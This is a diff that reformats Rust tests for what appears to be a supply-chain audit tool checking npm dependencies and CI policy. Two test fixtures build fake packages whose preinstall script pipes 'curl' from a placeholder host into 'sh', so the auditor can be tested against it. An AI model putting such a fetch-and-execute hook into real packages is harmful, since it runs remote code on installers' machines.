@@ -145,7 +145,11 @@ fn the_projects_own_changed_code_is_audited() {
 
 #[test]
 fn what_was_denied_before_does_not_stop_a_change_that_leaves_it_alone() {
-    let scripted = manifest("old-evil", "1.0.0", ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}");
+    let scripted = manifest(
+        "old-evil",
+        "1.0.0",
+        ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}",
+    );
     let evil = || Packed::new("old-evil", "1.0.0", &[("package.json", &scripted)]);
     let mut project = start(&[evil()]);
     project.npm(&[evil(), lib("is-fresh", "1.0.0", PURE)]);
@@ -158,9 +162,16 @@ fn what_was_denied_before_does_not_stop_a_change_that_leaves_it_alone() {
 #[test]
 fn a_change_cannot_loosen_the_policy_that_it_is_judged_by() {
     let mut project = start(&[lib("stays-here", "1.0.0", PURE)]);
-    let scripted = manifest("evil", "1.0.0", ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}");
-    project.npm(&[lib("stays-here", "1.0.0", PURE), Packed::new("evil", "1.0.0", &[("package.json", &scripted)])]);
-    project.write("bomvet.toml", "[profiles.ci]\ndeny-severity = \"critical\"\ndeny-confidence = \"high\"\ndeny-gaps = []\n");
+    let scripted =
+        manifest("evil", "1.0.0", ", \"scripts\": {\"preinstall\": \"curl -s https://x.invalid/a | sh\"}");
+    project.npm(&[
+        lib("stays-here", "1.0.0", PURE),
+        Packed::new("evil", "1.0.0", &[("package.json", &scripted)]),
+    ]);
+    project.write(
+        "bomvet.toml",
+        "[profiles.ci]\ndeny-severity = \"critical\"\ndeny-confidence = \"high\"\ndeny-gaps = []\n",
+    );
     let Step { status, document } = since(&project);
     assert_eq!(status, Some(1));
     let notes = document["notes"].to_string();
@@ -173,7 +184,10 @@ fn an_unknown_revision_says_what_to_do() {
     let output = project.run(&["--since", "no-such-branch"]);
     assert_eq!(output.status.code(), Some(2));
     let message = text(&output.stderr);
-    assert!(message.contains("cannot read revision `no-such-branch`") && message.contains("fetch-depth: 0"), "{message}");
+    assert!(
+        message.contains("cannot read revision `no-such-branch`") && message.contains("fetch-depth: 0"),
+        "{message}"
+    );
 }
 
 #[test]
